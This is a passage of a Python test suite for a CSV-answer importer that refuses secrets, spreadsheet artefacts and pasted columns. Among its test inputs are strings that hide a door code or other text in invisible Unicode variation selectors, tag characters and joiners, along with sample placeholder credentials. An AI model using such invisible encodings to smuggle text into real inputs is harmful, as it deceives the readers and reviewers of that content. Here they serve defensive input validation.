    assert cl.credential_sentences("P.I.N. 4071 for the side door") == "P.I.N. 4071 for the side door"


@test
def h51_p2_a_comment_column_is_refused_and_answers_after_a_semicolon_are_named():
    """Round 51 (H51-1, H51-2, H51-9): a row that fills a comment column a person added ('comment', 'Bemerkung', ...) is
    refused with where a comment goes, as the column would not be recorded, as is any column no export has ('notes',
    'memo', H52-1; the page reads the CSV alike); a routing
    cell whose text after ';' is only the item's answers ('research; teaching') is refused; 'stats' warns too."""
    with Sandbox() as box:
        message = box.refused('id,answer,comment\nLIC-1,no,"only public standards"\n', "answers.csv:2: the 'comment' column "
                              "is not recorded: write a comment in the answer cell")
        assert "1 problem" in message
        box.accepted('id,answer,comment\nREQ-3,4 sites,\n')
        for name in ("notes", "Memo", "\u5907\u6ce8", "observaciones"):
            box.refused(f"id,answer,{name}\nREQ-3,5 sites,see the memo\n", "column is not recorded")
        box.refused("id,answer,Otter-Meadow-57\nREQ-3,5 sites,x\n", "the 'ott\u2026 (15 characters)' column is not recorded")
        box.refused('id,answer\nLIC-1,"no; undecided"\n', "LIC-1: 'undecided' after ';' reads as answers")
        box.accepted('id,answer\nLIC-1,"no; undecided for the radio part, see memo"\n')
    with Sandbox(FIXTURE[:len(FIXTURE) // 2]) as box:
        assert "warning: this file fails its own check" in run_main("stats", "--file", box.doc).stderr


@test
def h51_local_names_of_a_pin_or_password_and_the_references_that_share_their_words():
    """Round 51: the Mexican NIP and CIEC, the Vietnamese 'mk', the Chinese share code, the French conference code, a
    Japanese key box in kanji, and a user's name with digits as its password are refused; an Indian postal PIN code, a
    Polish tax number (NIP), a court file's or tender's 'clave', line and health-authority codes, a rule's or an office's
    number, a Portuguese extension and Indonesian policy words stay answers (the strings are in BOUND_REFUSED and
    BOUND_ACCEPTED)."""
    assert cl.default_credential("field", "field123", False) and not cl.default_credential("site", "site2", False)


@test
def h52_recovery_codes_in_more_scripts_and_postal_codes_extensions_and_tax_numbers_that_are_none():
    """Round 52: recovery codes named in the plural (Polish, Swedish, Turkish, Arabic) or in Chinese, Japanese and Korean,
    a Korean passphrase and a Vietnamese alarm code are refused; postal codes before a town or after their label,
    extensions in Chinese, Japanese and Arabic, Polish tax and company numbers, a date written with slashes, and words
    that say where a password is ('davette', 'corporativo', 'anywhere') stay answers (the strings are in BOUND_REFUSED
    and BOUND_ACCEPTED)."""
    assert cl.schedule_blanked("38440 Wolfsburg, mantrap 55219 then badge") == "      Wolfsburg, mantrap 55219 then badge"


@test
def h53_recovery_codes_key_boxes_and_pins_in_more_languages_and_a_word_glued_to_a_year():
    """Round 53: recovery codes named in Bulgarian, Estonian, Hungarian, Latvian, Romanian, Slovak, Swahili, Urdu and
    Bengali, key boxes and combinations in Malay, Romanian and Hebrew, Bengali and Bulgarian PINs and PUKs, and a word
    glued to a year or a release right after a password's name ('Password: dhaka2024', however much it reads as
    schemes' names) are refused; company, VAT, project and activity codes, an Urdu extension, a document safe in a
    room, a standard's number near 'secret' and Bengali words for a policy or a vault stay answers (the strings are
    in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.GLUED_YEAR.fullmatch("dhaka2024") and not cl.GLUED_YEAR.fullmatch("RSA2048")


@test
def h54_codes_pins_and_passwords_in_twenty_more_languages_and_keypad_digits_in_any():
    """Round 54: door, alarm and key-box codes, PINs, PUKs and passwords named in Amharic, Irish, Gujarati, Hausa,
    Armenian, Icelandic, Kazakh, Khmer, Mongolian, Maltese, Punjabi, Sinhala, Albanian, Telugu, Uzbek, Yoruba and
    Welsh, and keys pressed in turn or recovery codes listed in any language, are refused; Mongolian, Nepali and
    Indian postal codes, and long answers whose door sentence ends before an extension's number, stay answers
    (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.CODE_CLAUSE_END.search("\u1362") and cl.KEYPAD_RUN.search("code 1-6-6-4.")


@test
def h55_codes_pins_and_passwords_in_twelve_more_languages():
    """Round 55: door and alarm codes, PINs, PUKs and passwords named in Kannada, Malayalam, Burmese, Lao, Kyrgyz,
    Pashto, Somali, Zulu and Faroese are refused; India's company and tax identifiers (CIN, GSTIN), a Belarusian
    customs code and Malayalam and Burmese words for a vault or a policy stay answers (the strings are in
    BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.INDIAN_ID.fullmatch("U64200KA2019PTC123456") and not cl.base64_key("U64200KA2019PTC123456")


@test
def h53_text_typed_in_the_note_column_is_refused_not_lost():
    """The export's 'note' column is not recorded: a cell whose text is not the item's note is refused, as its text
    would be lost, even where a link made plain names the file; untouched, cleared or re-wrapped, it imports."""
    with Sandbox(shipped_readme()) as box:
        header, rows = packet(box)
        note = header.index("note")
        line = {row[0]: k for k, row in enumerate(rows, 2)}
        linked = next(row for row in rows if "(the checklist, " in row[note])
        was, linked[note] = linked[note], linked[note].replace(" ", "\n ", 1)
        rows[line["REQ-4"] - 2][note] = ""
        assert box.run("import", box.csv(filled(header, rows, {}))).returncode == 0
        linked[note] = was                                  # its line breaks would move the lines below
        rows[line["REQ-3"] - 2][note] += " We are a German operator."
        rows[line["REQ-9"] - 2][note] = "ask Anna"
        linked[note] = was.replace("(the checklist, ", "(ask Bob first; the checklist, ")   # H55: where the name was
        refused_exactly(box, filled(header, rows, {"REQ-3": "Germany"}),
                        *(f"{line[iid]}: {cl.EDITED_MESSAGE.format(iid, 'note')}"
                          for iid in sorted(("REQ-3", "REQ-9", linked[0]), key=line.get)))
        refused_exactly(box, "id,answer,note,Note\nREQ-3,Germany,,\n", "1: the header names 'note' more than once")


@test
def h53_text_typed_in_any_column_but_answer_is_refused_not_lost():
    """Text typed into any column an export writes but import does not read ('ask', 'form', 'stage', 'waits_on',
    'in_your_role'...) is refused, naming the column: it would be lost; so are IDs in 'waits_on' that the item's
    condition does not name. IDs it names, and another role's line for the item (an export for that role), import."""
    with Sandbox(shipped_readme()) as box:
        header, rows = packet(box, "--profile", "buyer")
        row = next(k for k, r in enumerate(rows) if r[0] == "REQ-3")
        for column in cl.SHEET_COLUMNS:
            edited = [list(r) for r in rows]
            edited[row][header.index(column)] += " (ours: 40 sites)"
            refused_exactly(box, filled(header, edited, {}), f"{row + 2}: {cl.EDITED_MESSAGE.format('REQ-3', column)}")
        doc = cl.load(str(box.doc))
        role = next(k for k, r in enumerate(rows) if len(cl.sheet_cells(doc, doc.items[r[0]], str)["in_your_role"]) > 2)
        rows[role][header.index("in_your_role")] = cl.sheet_cells(doc, doc.items[rows[role][0]],
                                                                  cl.link_rewriter(doc))["in_your_role"][-1]
        waiting = next(k for k, r in enumerate(rows) if len(cl.sheet_cells(doc, doc.items[r[0]], str)["waits_on"]) > 1)
        rows[waiting][header.index("waits_on")] = "SEC-11 SEC-7"
        refused_exactly(box, filled(header, rows, {}), f"{waiting + 2}: "
                        f"{cl.EDITED_MESSAGE.format(rows[waiting][0], 'waits_on')}")
        rows[waiting][header.index("waits_on")] = " ".join(cl.sheet_cells(doc, doc.items[rows[waiting][0]], str)["waits_on"])
        assert box.run("import", box.csv(filled(header, rows, {}))).returncode == 0


@test
def h53_variation_selectors_and_khmer_blanks_hide_nothing():
    """A variation selector is refused as invisible unless it picks a form of the character before it (an emoji, a
    symbol, a CJK ideograph, a keycap's digit): 33 of them after 'Indoor room' spelled a door code and a Wi-Fi key,
    and one, or Khmer's invisible inherent vowels, split 'SIM PIN' from its number."""
    hidden = "Indoor room" + "".join(chr(0xFE00 + b % 16) if b % 2 else chr(0xE0100 + b) for b in b"door code 5829")
    for value in (hidden, "SIM PIN\u17b41234", "SIM PIN\u17b51234", "SIM PIN\ufe0f1234", "door\ufe00code", "x \ufe0f",
                  "\u2764\ufe0f\ufe0f", "#\ufe0f", "a\ufe0e", "PIN\u180b1234", "door\u034fcode", "x\ufff0y",   # H54-4
                  "Indoor room" + "".join(chr(0xE0080 + b) for b in b"door code 5829"), "ok \U000e01f0",
                  "x\U000e0067y", "a\u180eb", "\U0001f3f4\U000e0067\U000e0062 x", "PIN\U000e0020\U000e007f1234",
                  "".join(c + chr(0xE0100 + b % 240) for c, b in zip("\u673a\u67dc\u94a5\u5319\u5728", b"5829x")),   # H55-2
                  "\u2192\U000e0101x", "\u2014\ufe00y"):
        assert cl.text_problems(value)[0].startswith("the answer holds an invisible or control character"), value
    accepted_as_text("\u2764\ufe0f team", "1\ufe0f\u20e3 first, 2\ufe0f\u20e3 second", "\u845b\U000e0100\u57ce office",
                     "\u203c\ufe0f urgent", "\u2194\ufe0e both ways", "\u00a9\ufe0f 2026", "\u182e\u180b\u1823 site",
                     "Cardiff team \U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",   # H54-13
                     "\u182e\u180e\u1820 site", "\u1000\ufe00 site")


@test
def h53_a_column_named_with_a_secret_is_not_echoed():
    """A filled column whose name holds a password, or is anything but words (round 70: 'Otter-Meadow-57'), is refused
    with its name masked: its first characters and its length."""
    with Sandbox() as box:
        refused_exactly(box, "id,answer,password Hunter22x\nREQ-3,x,y\n",
                        "2: " + cl.UNREAD_MESSAGE.format("pas\u2026 (18 characters)"))


@test
def h53_an_id_typed_as_text_in_a_spreadsheet_is_read():
    """An id cell with the apostrophe a spreadsheet puts before text ("'REQ-3") names its item."""
    with Sandbox() as box:
        assert "**Answer:** Germany" in box.accepted("id,answer\n'REQ-3,Germany\n ' req-4 ,`none`\n")


@test
def h53_a_second_comment_row_is_refused_not_skipped():
    """A '#' row before the header other than the first (an export's) is refused: its text would be lost."""
    with Sandbox() as box:
        refused_exactly(box, "# the export's row\n\n# Bob: REQ-3 is two sites\nid,answer\nREQ-4,`none`\n",
                        "3: a second '#' row, which import would skip: write a comment in an answer cell (a routing "
                        "item: after its answers and ';'), or delete the row")
        assert "**Answer:** `none`" in box.accepted("sep=,\n# the export's row\nid,answer\nREQ-4,`none`\n")


@test
def an_answer_typed_beside_the_comment_row_is_refused_not_skipped():
    """Text beside the export's '#' row (an answer typed in the sheet's first row, which has one cell filled) is
    refused, as import skips that row; its cells left empty by a spreadsheet ('# ...,,,') are not text, and a comment
    of one's own split by the separator ('# Bob, 7 May') is skipped whole."""
    hint = f'"# {cl.SHEET_HINT} Role: lab."'
    with Sandbox() as box:
        refused_exactly(box, f"{hint},REQ-3 is two sites\nid,answer\nREQ-4,`none`\n", "1: " + cl.CROWDED_HINT)
        refused_exactly(box, f",,{hint},,REQ-3 is two sites\nid,answer\nREQ-4,`none`\n", "1: " + cl.CROWDED_HINT)
        for first in (f"{hint},,,", "# Bob, 7 May"):
            assert "**Answer:** `none`" in box.accepted(f"{first}\nid,answer\nREQ-4,`none`\n")


@test
def h54_sheets_from_a_copy_or_with_answers_in_a_file_named_oddly_reimport_untouched():
    """An untouched sheet exported from a copy named 'README (1), v2.md', or with --answers 'answers (1).csv' (a
    browser's second download), imports with nothing recorded; a routing answer given in that CSV is in the sheet's
    first row, not in 'assumed', so that an edit there cannot pass for it."""
    with Sandbox(shipped_readme()) as box:
        copy = box.dir / "README (1), v2.md"
        copy.write_bytes(box.doc.read_bytes())
        box.csv("id,answer\nREQ-1,`teaching`\nLIC-1,`no`\n", "answers (1).csv")
        before = box.doc.read_bytes()
        for args in (("--file", str(copy)), ("--answers", "answers (1).csv", "--profile", "lab")):
            sheet = run_main("items", "--format", "csv", *args[:2], *(("--file", box.doc) if args[0] != "--file" else ()),
                             *args[2:], cwd=box.dir).stdout
            assert box.run("import", box.csv(sheet)).returncode == 0 and box.doc.read_bytes() == before, args
        rows = list(csv.DictReader(io.StringIO(sheet.lstrip("\ufeff").split("\n", 1)[1])))
        assert next(r for r in rows if r["id"] == "REQ-1")["assumed"] == "" and "(given in answers (1).csv)" in sheet


@test
def h54_the_items_own_text_pasted_as_its_answer_is_refused():
    """An answer cell that repeats the item's own Form, ask, Unblocks, role line or Note (pasted from the sheet's
    other columns), or another item's longer text (a column pasted a row off), is refused (H55-6, 7); a routing
    answer that is also the item's From ('requester' for REQ-8) is an answer."""
    with Sandbox(shipped_readme()) as box:
        header, rows = packet(box)
        line = {r[0]: k for k, r in enumerate(rows, 2)}
        row = {r[0]: r for r in rows}
        refused_exactly(box, filled(header, rows, {"REQ-3": row["REQ-3"][header.index("form")], "REQ-8": "requester"}),
                        f"{line['REQ-3']}: {cl.OWN_TEXT_MESSAGE.format('REQ-3', 'form')}")
        after = rows[line["REQ-3"] - 1][0]                                   # the row below REQ-3's
        refused_exactly(box, filled(header, rows, {"REQ-3": row[after][header.index("ask")]}),
                        f"{line['REQ-3']}: {cl.OTHER_TEXT_MESSAGE.format('REQ-3', 'ask', after)}")
        assert "**Answer:** `requester`" in box.accepted(filled(header, rows, {"REQ-8": "requester"}))   # a new user's


@test
def h54_long_id_cells_are_refused_quickly():
    """Id cells of 100,000 characters of a code's name are refused in a moment, each shown cut short, never echoed
    whole: each was judged whole as a possible secret (75 such rows took nine minutes)."""
    with Sandbox() as box:
        path = box.csv("id,answer\n" + ("\u06a9\u062f " * 33_000 + ",x\n") * 5 + "door code 5829 " * 400 + ",x\n")
        result = quick(lambda: box.run("import", path), 2)
        assert result.returncode == 1 and "is not an item" in result.stderr and "5829" not in result.stderr, result


@test
def h54_a_column_that_reads_as_an_exports_is_spelled_as_one():
    """A header name that reads as an export's column without being spelled so ('ｎｏｔｅ', 'nоte' with a Cyrillic
    'о') is refused, as for 'id' and 'answer': a second 'note' column so named was never compared, its text lost."""
    with Sandbox() as box:
        refused_exactly(box, "id,answer,note,\uff4e\uff4f\uff54\uff45\nREQ-3,,,x\n", "1: the header name "
                        "'\uff4e\uff4f\uff54\uff45' reads 'note' but is not spelled in plain letters; retype it")


@test
def h55_an_exports_comment_row_whose_columns_were_moved_is_still_a_comment():
    """A sheet whose 'id' column (holding the '#' row's text) was moved to the end still imports: a row before the
    header whose only filled cell starts with '#' is a comment."""
    with Sandbox() as box:
        assert "**Answer:** `none`" in box.accepted(",,# Type answers in the 'answer' column\nanswer,x,id\n`none`,,REQ-4\n")


@test
def h53_a_blank_row_whose_recorded_cell_is_not_the_answer_is_named():
    """A row with no answer whose 'recorded' cell is not the answer recorded now (a sheet exported before the answer
    changed, or that cell edited in place of 'answer') records nothing, and import names it."""
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,50 sites\n")
        result = box.run("import", box.csv("id,answer,recorded\nREQ-3,,80 sites\nREQ-4,`none`,\n"))
        assert result.returncode == 0 and "recorded 1 answer: REQ-4. Left out: REQ-3: its 'recorded' cell is not the " \
            "answer recorded now" in result.stdout, result
        result = box.run("import", box.csv("id,answer,recorded\nREQ-3,,\"  50 sites \"\n"))
        assert result.returncode == 0 and "nothing to record" in result.stdout and "Left out" not in result.stdout


@test
def h53_an_answer_typed_over_an_assumption_is_refused_not_lost():
    """The 'assumed' column is not recorded either: a cell that is no profile's assumption for the item, nor one from
    a CSV given with --answers, is refused; untouched or cleared, it imports, and nothing assumed is recorded."""
    with Sandbox(shipped_readme()) as box:
        box.csv("id,answer\nREQ-1,`teaching`\n", "mine.csv")
        for args in (("--profile", "simulator"), ("--profile", "lab", "--answers", "mine.csv")):
            header, rows = packet(box, *args)
            before = box.doc.read_bytes()
            assert box.run("import", box.csv(filled(header, rows, {}))).returncode == 0 and box.doc.read_bytes() == before
        header, rows = packet(box, "--profile", "simulator")
        assumed, line = header.index("assumed"), {row[0]: k for k, row in enumerate(rows, 2)}
        rows[line["REQ-1"] - 2][assumed] = "`teaching` (profile simulator)"
        rows[line["REQ-3"] - 2][assumed] = "Germany"
        refused_exactly(box, filled(header, rows, {}), *(f"{line[iid]}: {cl.EDITED_MESSAGE.format(iid, 'assumed')}"
                                                         for iid in sorted(("REQ-1", "REQ-3"), key=line.get)))


@test
def h53_an_answer_dense_with_names_is_judged_in_linear_time():
    """An answer made of a key's or PIN's name over and over ('key: x key: x ...') is judged in about eight times
    the time for eight times the length (at most sixteen; the better of two runs when a loaded machine misses):
    each name looked again through the whole text for Wi-Fi words, and judged all the text after it, made 224 such
    answers take 35 s to import and as long for each view."""
    for text in ("key: x " * 2_000, "N " + "\u06a9\u062f-" * 3_000):     # and a code's name glued on (H54-6)
        short, long = (text[:length] for length in (1_000, 8_000))
        if took(long, 1) >= 16 * took(short, 1) + 0.02:
            assert took(long, 2) < 16 * took(short, 2) + 0.02, text[:10]


@test
def h33_a_label_is_quoted_as_typed():
    """A refusal quotes a password's name as the answer writes it, though the scan reads look-alike letters folded and
    vowel signs left out (H32-9): 'Пароль', not 'Пapoль'; 'รหัสผ่าน', not 'รหสผาน'; a stem's whole word ('κωδικός'),
    but not the words that follow a name in a script without spaces ('パスワード', not 'パスワードはmomiji2')."""
    for name, value in (("\u041f\u0430\u0440\u043e\u043b\u044c", "Zx9kq7Lm"), ("\u0421\u0435\u0439\u0444", "23-47-12"),
                        ("\u0e23\u0e2b\u0e31\u0e2a\u0e1c\u0e48\u0e32\u0e19", "Zx9kq7Lm")):
        assert f"near '{name}'" in cl.text_problems(f"{name}: {value}")[0], name
    assert cl.as_typed("Koд", "the Код is 4471") == "Код" and cl.as_typed("absent", "text") == "absent"
    assert "near '\u03ba\u03c9\u03b4\u03b9\u03ba\u03cc\u03c2'" in cl.text_problems("\u03ba\u03c9\u03b4\u03b9\u03ba\u03cc\u03c2: Kestrel4821")[0]
    assert "near '\u30d1\u30b9\u30ef\u30fc\u30c9'" in cl.text_problems("\u30d1\u30b9\u30ef\u30fc\u30c9\u306fmomiji2\u3067\u3059")[0]


@test
def h34_unlock_and_padlock_codes_recovery_words_and_a_value_quoted_as_typed():
    """Round 34: a phone's unlock number, a padlock's combination (南京錠, hänglås), 'key in 4417', an alarm armed
    with its code, a code after a dash ('Код двери — 8137') or in groups before '#', recovery words in several
    languages (助记词 too) are refused; a refusal quotes the value's start as typed ('Жур…', not its look-alike
    folding). 'iLO/iDRAC', 'PTP lock lost' near an alarm's number and 'the PIN is vendor-set' stay answers."""
    assert cl.text_problems("\u041f\u0430\u0440\u043e\u043b\u044c: \u0416\u0443\u0440\u0430\u0432\u043b\u044c77")[0].startswith(
        "'\u0416\u0443\u0440\u2026' (9 characters) near '\u041f\u0430\u0440\u043e\u043b\u044c'")
    assert "base64" not in cl.text_problems("POSTGRES_PASSWORD=example")[0]     # a variable's value, not padding


@test
def h34_12_a_backup_a_killed_import_left_is_removed_or_named():
    """A SIGKILL inside swap() leaves '.README.md.<12 hex>.tmp': the next import removes it where it is README.md
    itself (a hard link) or holds its bytes, and otherwise keeps it and names it in its report (an older copy), as an
    import with nothing to record or a refused one does too."""
    with Sandbox() as box:
        same, linked = box.dir / ".README.md.0123456789ab.tmp", box.dir / ".README.md.a1b2c3d4e5f6.tmp"
        same.write_bytes(box.doc.read_bytes())
        os.link(box.doc, linked)
        older = box.dir / ".README.md.ffffffffffff.tmp"
        older.write_bytes(box.doc.read_bytes() + b"\nan older line\n")
        result = box.run("import", box.csv("id,answer\nREQ-3,12 sites\n"))
        assert result.returncode == 0 and not same.exists() and not linked.exists() and older.exists(), result
        assert "Note: .README.md.ffffffffffff.tmp, beside it, is an older copy" in result.stdout, result.stdout
        again = box.run("import", box.csv("id,answer\nREQ-3,12 sites\n"))
        assert "nothing to record" in again.stdout and ".README.md.ffffffffffff.tmp" in again.stdout, again.stdout
        refused = box.run("import", box.csv("id,answer\nNOPE-1,x\n"))
        assert refused.returncode == 1 and ".README.md.ffffffffffff.tmp" in refused.stderr, refused.stderr


# ---------------------------------------------------------------- the fifty-sixth hostile-input round

@test
def h56_a_spreadsheets_error_value_in_any_program_or_language_is_no_answer():
    """Google Sheets' '#ERROR!' and 'Loading...', LibreOffice's 'Err:508' and Excel's error values as other languages
    write them ('#WERT!', '#¡VALOR!', '#NV', '#N/D') were recorded as answers; they are refused as '#REF!' is, while
    text that starts with '#' or names an error stays an answer."""
    for value in ("#ERROR!", "Err:508", "Err:502", "#WERT!", "#\u00a1VALOR!", "#NV", "#N/D", "#N\u00daM!", "#DEEL/0!",
                  "Loading...", "#PYTHON!", "#CIRC!"):
        refuse(f"id,answer\nREQ-3,{value}\n", f"REQ-3: '{value}' is no answer: leave the cell empty until it is known")
    accepted_as_text("#1 priority is the core", "Err:508 seen in the OMC log on 3 May", "#urgent", "Loading dock at gate 2")


@test
def h56_a_sheets_empty_rows_are_dropped_at_once_and_a_million_lines_refused():
    """A sheet saved with ',' down to its last row (a million empty rows) imports its answers in a fraction of a second
    (row by row, 16 MiB of them took 11 s); more lines than a spreadsheet's 1,048,576 rows are refused at once."""
    with Sandbox() as box:
        path = box.csv("id,answer\nREQ-3,12 sites\n" + ",,\n" * 1_000_000 + "\n" * 1_000_000)
        result = quick(lambda: box.run("import", path), 0.5)
        assert result.returncode == 0 and "recorded 1 answer: REQ-3" in result.stdout, result
        refused_exactly(box, "id,answer\n" + "\n" * cl.MAX_CSV_LINES + "REQ-4,`none`\n",
                        " more than 1,048,576 lines, more rows than a spreadsheet holds: delete the empty ones")


@test
def h56_views_never_copy_a_secret_that_another_problem_hid():
    """A hand-written Answer holding a door code with an invisible character, a variation selector or a lone carriage
    return in it, or over 2,000 characters, failed check for that alone: the views warned and copied the code. Now
    they refuse such an answer as they refuse a secret (the long one unjudged), naming it and printing nothing."""
    lines = FIXTURE.split("\n")
    k = next(n for n, text in enumerate(lines) if text.startswith('- [ ] <a id="req-3"></a>'))
    lines[k] = lines[k].replace("- [ ]", "- [x]", 1)
    end = next(n for n in range(k + 1, len(lines)) if not lines[n].startswith("  "))
    for answer, message in (("door code 5829\u200b for the server room", "'5\u2026' (4 characters) near 'door code'"),
                            ("door code 5829\ufe0f", "'5\u2026' (4 characters) near 'door code'"),
                            ("door code 5829\r for the server room", "'5\u2026' (4 characters) near 'door code'"),
                            ("door code 5829 " + "x " * 1000, cl.UNJUDGED)):
        with Sandbox("\n".join(lines[:end] + ["  - **Answer:** " + answer] + lines[end:])) as box:
            for view in (("items", "--format", "csv"), ("status",), ("form",)):
                result = box.run(*view)
                assert result.returncode == 1 and "5829" not in result.stdout + result.stderr, (view, result)
                assert f"README.md:{end + 1}: [answer] REQ-3: {message}" in result.stderr, (view, result.stderr)


@test
def h56_a_short_column_pasted_into_answer_is_refused_not_recorded():
    """The 'from', 'party' or 'stage' column pasted into 'answer' (50 rows of 'requester') was recorded; three rows or
    more whose answer each repeats its own row's From, party or stage are refused, while one such answer, a routing
    item's declared one ('requester' for REQ-8) among them, is recorded."""
    with Sandbox(shipped_readme()) as box:
        sheet = run_main("items", "--profile", "lab", "--format", "csv", "--file", box.doc).stdout
        rows = list(csv.DictReader(io.StringIO(sheet.lstrip("\ufeff").split("\n", 1)[1])))
        doc = cl.parse(box.doc.read_text(encoding="utf-8"))
        text_rows = [r for r in rows if not doc.items[r["id"]].declared][:4]
        for column in ("from", "party", "stage"):
            pasted = "id,answer\n" + "".join(f"{r['id']},{r[column]}\n" for r in text_rows)
            message = box.refused(pasted, f"the answer cell holds the row's own '{column}' text, as 4 rows do")
            assert message.count("a column pasted into 'answer'") == 4, message
        first = text_rows[0]
        assert f"**Answer:** {first['from']}" in box.accepted(f"id,answer\n{first['id']},{first['from']}\nREQ-8,`requester`\n")


@test
def h56_messages_say_what_to_change_in_a_sheet_another_program_wrote():
    """A title row above the header names the line that holds the header; a column of row numbers (pandas, R) and a
    space after a closing quote each get a hint beyond the csv module's words."""
    with Sandbox() as box:
        refused_exactly(box, "Answers from counsel, 5 May 2026\nid,answer\nREQ-3,4 sites\n",
                        "1: no 'id' and 'answer' columns in the header line (export one with: items --format csv); "
                        "line 2 has them: delete the lines above it, or start each with '#'")
        refused_exactly(box, ",id,answer\n0,REQ-3,4 sites\n", "2: a value in column 1, which the header leaves unnamed: "
                        "put the answer in quotes if it contains ',', or delete the column of row numbers a program wrote")
        refused_exactly(box, 'id,answer\nREQ-3, "4 sites, 2 labs" \n', "2: not valid CSV: ',' expected after '\"' (a space "
                        "or text after a closing quote: remove it, or put the whole cell in quotes)")


@test
def h57_an_items_own_id_as_its_answer_and_a_put_off_answer_by_hand_are_refused():
    """The 'id' column pasted into 'answer' recorded 50 answers such as 'REQ-3' (round 57): an answer that is its own
    row's ID is refused; and 'TBD', 'pending' or '#REF!' written by hand under a free-text item fail check as import
    refuses them."""
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,REQ-3\nREQ-4,`none`\n",
                        "2: " + cl.OWN_TEXT_MESSAGE.format("REQ-3", "id"))
    for value in ("TBD", "pending", "#REF!"):
        text = swap("  - **Form:** a number.", f"  - **Form:** a number.\n  - **Answer:** {value}").replace(
            '- [ ] <a id="req-3">', '- [x] <a id="req-3">')
        assert [(d.code, d.message) for d in cl.run_rules(cl.parse(text))] == [
            ("answer", f"REQ-3: '{value}' is no answer: delete the Answer line until it is known, or write "
                       "'not needed: <reason>'")], value


@test
def h57_tags_hide_no_text_and_a_spreadsheets_artefacts_are_no_answer():
    """Tag characters after a black flag spelled 'door code 5829' invisibly and passed as a flag: only England's,
    Scotland's and Wales's tag sequences are accepted; a joiner between two ASCII letters (a bit of hidden data) is
    refused, between Persian or Indic letters not. A long number a spreadsheet shortened ('8.9441E+19') and the
    day-0 date an empty reference shows ('1900-01-00', '30/12/1899') are refused, with what to do."""
    tags = lambda text: "".join(chr(0xE0000 + ord(c)) for c in text)       # noqa: E731
    assert cl.text_problems("Server room \U0001f3f4" + tags("door code 5829") + "\U000e007f")[0].startswith(
        "the answer holds an invisible or control character (U+E0020")
    accepted_as_text("Glasgow team \U0001f3f4" + tags("gbsct") + "\U000e007f")
    assert cl.text_problems("Indoor Se\u200dr\u200dv\u200de\u200dr room")    # joiners between ASCII letters carry data
    accepted_as_text("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 two sites", "\u0915\u094d\u200d\u0937 site")
    assert cl.text_problems("x \U0001f3f4" + tags("usca") + "\U000e007f")
    with Sandbox(shipped_readme()) as box:
        refused_exactly(box, "id,answer\nREQ-3,8.9441E+19\nREQ-6,1900-01-00\nREQ-7,30/12/1899\n",
                        "2: REQ-3: '8.9441E+19' is a long number a spreadsheet shortened: format the column as text and "
                        "type the number again",
                        "3: REQ-6: '1900-01-00' is no answer: leave the cell empty until it is known, or write "
                        "'not needed: <reason>'",
                        "4: REQ-7: '30/12/1899' is no answer: leave the cell empty until it is known, or write "
                        "'not needed: <reason>'")


@test
def h57_a_bare_zero_or_boolean_may_be_the_sheets_and_is_refused():
    """'0', 'TRUE' or 'FALSCH' alone in a free-text item's cell is what a sheet shows for a formula over an empty cell
    or a checkbox (recorded, round 57): refused with what to write instead; '0 sites' and 'yes' are answers."""
    with Sandbox(shipped_readme()) as box:
        refused_exactly(box, "id,answer\nREQ-3,0\nREQ-6,TRUE\nREQ-7,FALSCH\n", *(
            f"{n}: {iid}: '{value}' alone may be a spreadsheet's own value (an empty cell a formula refers to, a "
            "checkbox): write the answer in words, as '0 sites' or 'yes'"
            for n, iid, value in ((2, "REQ-3", "0"), (3, "REQ-6", "TRUE"), (4, "REQ-7", "FALSCH"))))
        for value in ("0.00", "$0.00", "0%", "12:00:00 AM", "00:00:00", "(blank)", "#TRUE#", "undefined"):   # round 58
            assert box.refused(f"id,answer\nREQ-3,{value}\n", "alone may be a spreadsheet's own value"), value
        assert "**Answer:** 0 sites" in box.accepted("id,answer\nREQ-3,0 sites\nREQ-6,12:00\n")


@test
def h57_an_items_own_or_anothers_text_in_another_case_is_refused():
    """HW-8's own ask typed in lower case was recorded as its answer (round 57): the own-text and pasted-row checks
    read case aside."""
    doc = cl.parse(shipped_readme())
    ask, other = doc.items["REQ-3"].ask, doc.items["REQ-5"].ask
    with Sandbox(shipped_readme()) as box:
        refused_exactly(box, f'id,answer\nREQ-3,"{ask.lower()}"\nREQ-6,"{other.upper()}"\n',
                        "2: " + cl.OWN_TEXT_MESSAGE.format("REQ-3", "ask"),
                        "3: " + cl.OTHER_TEXT_MESSAGE.format("REQ-6", "ask", "REQ-5"))


@test
def h57_routing_tokens_with_digits_are_not_echoed_and_wide_commas_separate():
    """'5829#' and 'PIN5829' among routing tokens were echoed in the refusal (round 57): a token with three digits or
    more is named as such ('5829#' is now refused as a keypad's code); tokens apart by a fullwidth or ideographic comma
    ('research，teaching') are read apart."""
    with Sandbox(shipped_readme()) as box:
        refused_exactly(box, 'id,answer\nREQ-1,"research, 5829x"\n', "2: REQ-1: a token with digits is not an answer "
                        "of REQ-1 ['public', 'private', 'product', 'lab', 'research', 'teaching', 'evaluation']")
        assert "**Answer:** `research`, `teaching`" in box.accepted('id,answer\nREQ-1,"research\uff0cteaching"\n')


@test
def h57_a_secret_in_the_answers_files_name_travels_with_no_packet():
    """'items --answers "door code 5829.csv"' wrote the name into the packet and the page (round 57): a name that
    looks like a secret is given as 'a CSV'."""
    with Sandbox(shipped_readme()) as box:
        box.csv("id,answer\nREQ-1,research\n", "door code 5829.csv")
        for args in (("items", "--format", "csv"), ("items",), ("form",)):
            result = run_main(*args, "--answers", "door code 5829.csv", "--file", box.doc, cwd=box.dir)
            assert result.returncode == 0 and "5829" not in result.stdout and "a CSV" in result.stdout, args


@test
def h57_a_rule_from_the_sheets_first_row_pasted_as_an_answer_is_refused():
    """A role's rule copied from the export's first row into an answer was recorded (round 57): the rules that row
    carries are compared as other items' texts are."""
    doc = cl.parse(shipped_readme())
    rule = cl.sheet_rules(doc, cl.link_rewriter(doc, name=cl.SHEET_NAME))[0]
    with Sandbox(shipped_readme()) as box:
        refused_exactly(box, f'id,answer\nREQ-3,"{rule}"\n',
                        "2: " + cl.OTHER_TEXT_MESSAGE.format("REQ-3", "rule", cl.SHEET_FIRST_ROW))


@test
def h59_a_passphrase_a_few_words_after_its_name_is_refused():
    """A PSK or community string of joined words and a number after a local copula ('IPsec PSK em sepik-wewak-2026',
